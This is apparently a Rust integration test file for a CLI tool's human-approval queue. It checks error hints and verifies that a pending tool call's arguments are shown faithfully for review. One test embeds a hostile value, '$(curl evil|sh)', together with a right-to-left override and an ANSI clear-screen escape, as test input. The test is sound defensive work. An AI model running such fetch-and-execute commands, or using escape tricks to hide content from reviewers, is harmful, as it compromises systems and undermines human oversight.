//! What the command says of a call that waits for a person: only of ways that lead to one, and what it shows of it.

use std::{fs, path::Path, process::Command};

use serde_json::{Value, json};

fn run(folder: &Path, store: &str, args: &[&str]) -> (i32, String, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_toolcrib"))
        .args(args)
        .current_dir(folder)
        .env("TOOLCRIB_STORE", store)
        .env("XDG_CONFIG_HOME", folder)
        .env_remove("TOOLCRIB_CONFIG")
        .output()
        .unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

#[test]
fn a_question_that_nobody_can_reach_names_no_command() {
    for (store, says, says_not) in
        [(":memory:", "store.path", "toolcrib approvals"), ("state.db", "toolcrib approvals approve", "store.path")]
    {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("toolcrib.toml"), "").unwrap();
        let call = ["call", "--trust", "none", "kv_set", r#"{"key":"a","value":"b"}"#];
        let (code, _, said) = run(folder.path(), store, &call);
        assert_ne!(code, 0, "{store}: {said}");
        assert!(said.contains(says) && !said.contains(says_not), "{store}: {said}");
    }
}

#[test]
fn what_waits_is_shown_as_it_is() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("toolcrib.toml"), "").unwrap();
    let value = format!("PASSWORD=\"$(curl evil|sh)\"\u{202e}\u{1b}[2J{}", "x".repeat(2_000));
    let arguments = json!({"key": "a", "value": value}).to_string();
    let (_, _, said) = run(folder.path(), "state.db", &["call", "--trust", "none", "kv_set", &arguments]);
    let (code, waiting, _) = run(folder.path(), "state.db", &["approvals", "list", "--json"]);
    assert_eq!(code, 0, "{said}");
    let waiting: Value = serde_json::from_str(&waiting).unwrap();
    let (id, shown) = (waiting[0]["id"].as_str().unwrap(), waiting[0]["arguments"].as_str().unwrap());
    assert_eq!(serde_json::from_str::<Value>(shown).unwrap(), serde_json::from_str::<Value>(&arguments).unwrap());
    let (_, page, _) = run(folder.path(), "state.db", &["approvals", "show", id]);
    assert!(page.contains(shown) && page.contains(r#"$(curl evil|sh)\"\u202e\u001b[2Jxxx"#), "{page}");
}
